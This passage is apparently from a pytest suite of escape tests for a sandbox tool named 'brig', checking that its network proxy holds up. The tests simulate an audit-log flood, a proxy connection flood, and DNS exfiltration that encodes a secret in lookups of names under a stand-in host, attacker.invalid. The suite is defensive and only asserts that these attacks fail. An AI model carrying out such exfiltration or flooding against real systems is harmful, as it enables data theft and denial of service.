                 "--ro-bind", f"{netscript}:/net.py", "--", "python3", "/net.py", "deny-loop", 20000,
                 "denied.invalid", 443, timeout=300)
    attempts = int(kv(r.stdout)["attempts"])
    assert attempts > 10000, r
    events = [json.loads(line) for line in audit.read_text().splitlines()]
    end = events[-1]
    net = [e for e in events if e["event"] == "net"]
    dropped = sum(e["count"] for e in events if e["event"] == "suppressed" and e.get("net") == "*")
    seconds = end["duration_ms"] // 1000 + 1
    # what the flood can make: net lines and the counts of those dropped
    # (start, end, the programs run and the file changes are lines of their own)
    flood = [e for e in events if e["event"] in ("net", "suppressed")]
    assert len(flood) <= 101 * seconds + 2, \
        f"ATTACK WORKED: {len(events)} audit lines in {end['duration_ms']} ms ({audit.stat().st_size} bytes)"
    assert len(net) + dropped == attempts and end["net_suppressed"] == dropped, "attempts went uncounted"
    assert json.loads(report.read_text())["controls"]["egress"]["denied"] == attempts


DNS_SERVER = r"""
import socket, sys
log = open(sys.argv[1], "a", buffering=1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 53))
print("ready", flush=True)
while True:
    q, peer = s.recvfrom(512)
    i, labels = 12, []
    while i < len(q) and q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode(errors="replace"))
        i += 1 + q[i]
    log.write(".".join(labels) + "\n")
    # NXDOMAIN, the question echoed: the resolver gives up at once.
    s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:i + 5], peer)
"""


@attack("dns-exfiltration", "exfiltrate data in DNS names the host resolves on the sandbox's behalf",
        "the proxy judges a name before any DNS query; no DNS from inside (own netns)")
def test_dns_exfiltration_through_the_proxy(brig, netscript):
    if not IS_ROOT:
        pytest.skip("DNS EXFILTRATION NOT TESTED: building the test's network namespace needs root")
    ns = "brig-esc-" + uuid.uuid4().hex[:8]
    log = brig.base / "dns.log"
    log.touch()
    resolv = brig.base / "resolv.conf"
    resolv.write_text("nameserver 127.0.0.1\noptions attempts:1 timeout:2\n")
    resolv.chmod(0o644)
    subprocess.run(["ip", "netns", "add", ns], check=True)
    server = None
    try:
        subprocess.run(["ip", "-n", ns, "link", "set", "lo", "up"], check=True)
        server = subprocess.Popen(["nsenter", f"--net=/run/netns/{ns}", "/usr/bin/python3", "-c", DNS_SERVER,
                                   str(log)], stdout=subprocess.PIPE, text=True)
        assert server.stdout.readline().strip() == "ready"
        secret = uuid.uuid4().hex[:16]
        # brig (the proxy's resolver) in the namespace, with the test's
        # nameserver in a private mount namespace's /etc/resolv.conf.
        wrap = ["nsenter", f"--net=/run/netns/{ns}", "unshare", "--mount", "--propagation", "private", "sh", "-c",
                f'mount --bind {resolv} /etc/resolv.conf && exec "$@"', "sh"]
        lines = [f"proxy-connect exfil-{secret}.attacker.invalid 443",
                 f"proxy-get http://exfil2-{secret}.attacker.invalid/",
                 f"socks exfil3-{secret}.attacker.invalid 80",
                 f"resolve exfil4-{secret}.attacker.invalid",
                 f"proxy-connect ctl-{secret}.allowed.invalid 443"]
        body = "; ".join(f"python3 /net.py {l}" for l in lines)
        cp = subprocess.run(wrap + brig.cmd("run", "--allow-host", "*.allowed.invalid", "--ro-bind",
                                            f"{netscript}:/net.py", "--", "sh", "-c", body),
                            cwd=brig.workspace, env=brig.env(), capture_output=True, text=True, timeout=120)
        assert answers(cp, "connect_status")[0] == "403" and answers(cp, "get_status") == ["403"], cp
        assert answers(cp, "socks_reply") == ["2"], cp
        assert answers(cp, "resolve")[0].startswith("EAI"), cp
        seen = log.read_text()
        # Control: a name the policy allows is resolved, by the test's server.
        assert f"ctl-{secret}.allowed.invalid" in seen, f"control: the proxy never asked the test's nameserver: {cp} {seen!r}"
        leaked = [l for l in seen.splitlines() if "exfil" in l]
        assert leaked == [], f"ATTACK WORKED: refused names reached DNS: {leaked}"
    finally:
        if server:
            server.kill()
            server.wait()
        subprocess.run(["ip", "netns", "del", ns])


@attack("proxy-conn-flood", "exhaust the proxy's connection table and descriptors (thousands of connections)",
        "connection cap and paused accept on EMFILE; one proxy per run")
def test_proxy_connection_flood(brig, netscript, upstream):
    port = upstream.http_port
    allow = ["--resolve", "ok.test:127.0.0.1", "--allow-host", f"ok.test:{port}", "--allow-cidr", "127.0.0.1/32"]
    ready = [brig.workspace / f"ready{i}" for i in range(3)]
    release = brig.workspace / "release"
    script = " & ".join(f"python3 /net.py flood 4000 ok.test {port} {rd} {release}" for rd in ready)
    script += f" & wait; python3 /net.py proxy-connect ok.test {port}"
    p = subprocess.Popen(brig.cmd("run", "--net", "proxy", "--ro-bind", f"{netscript}:/net.py", *allow, "--", "sh",
                                  "-c", script),
                         cwd=brig.workspace, env=brig.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert wait_until(lambda: all(x.exists() for x in ready) or p.poll() is not None, 120), "the flood never got going"
        # Another sandbox works while the flood holds its proxy.
        r = brig.sh(f"python3 /net.py proxy-connect ok.test {port}",
                    "--net", "proxy", "--ro-bind", f"{netscript}:/net.py", *allow)
        assert answers(r, "connect_status") == ["200"] and answers(r, "tunnel_status") == ["200"], \
            f"another run was starved: {r}"
    finally:
        release.touch()
        out, err = p.communicate(timeout=180)
    opened = [int(v) for v in [l.split("=")[1] for l in out.splitlines() if l.startswith("flood_opened=")]]
    assert len(opened) == 3 and sum(opened) > 8000, (out, err)
    assert p.returncode == 0, f"the supervisor did not survive: rc={p.returncode} {err}"
    # After the flood, the same proxy serves a new client.
    assert out.strip().splitlines()[-2:] == ["connect_status=200", "tunnel_status=200"], (out, err)
